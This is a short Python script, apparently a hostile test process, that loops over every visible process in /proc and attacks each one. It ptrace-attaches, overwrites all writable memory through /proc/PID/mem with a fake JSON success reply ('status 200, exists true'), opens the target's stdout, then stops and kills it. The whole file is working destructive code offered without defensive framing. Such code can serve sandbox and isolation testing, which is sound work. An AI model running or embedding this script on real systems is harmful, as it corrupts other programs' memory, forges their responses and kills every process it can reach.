"""Writes into every process that it can see, then kills them, again and again."""

import ctypes
import os
import signal
import time

PTRACE_ATTACH = 16
libc = ctypes.CDLL(None, use_errno=True)


def others():
    own = {os.getpid(), os.getppid(), 1}
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


def scribble(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        for line in maps:
            place, mode = line.split()[:2]
            if "w" in mode:
                memory.seek(int(place.split("-")[0], 16))
                memory.write(b'{"id":1,"ok":{"status":200,"exists":true,"kind":"file"}}\n' * 64)


while True:
    for pid in others():
        for attack in (lambda: libc.ptrace(PTRACE_ATTACH, pid, None, None), lambda: scribble(pid),
                       lambda: os.open(f"/proc/{pid}/fd/1", os.O_WRONLY), lambda: os.kill(pid, signal.SIGSTOP),
                       lambda: os.kill(pid, signal.SIGKILL)):
            try:
                attack()
            except Exception as error:
                print(pid, error)
    time.sleep(0.05)
